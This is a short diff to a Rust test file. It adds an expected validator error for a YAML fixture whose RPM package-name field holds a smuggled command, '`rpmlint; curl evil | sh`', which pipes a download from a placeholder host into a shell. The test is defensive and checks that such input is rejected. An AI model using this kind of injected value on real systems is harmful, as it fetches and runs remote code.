@@ -190,6 +190,11 @@ const EXPECTED: &[(&str, &str, &str)] = &[
         "5:4: (yaml)",
         "invalid YAML: while parsing a block",
     ),
+    (
+        "39-environment-rpm-not-a-name.yml",
+        "5:7: environment.rpm[1]",
+        "`rpmlint; curl evil | sh` is not a pa",
+    ),
 ];
 
 #[test]
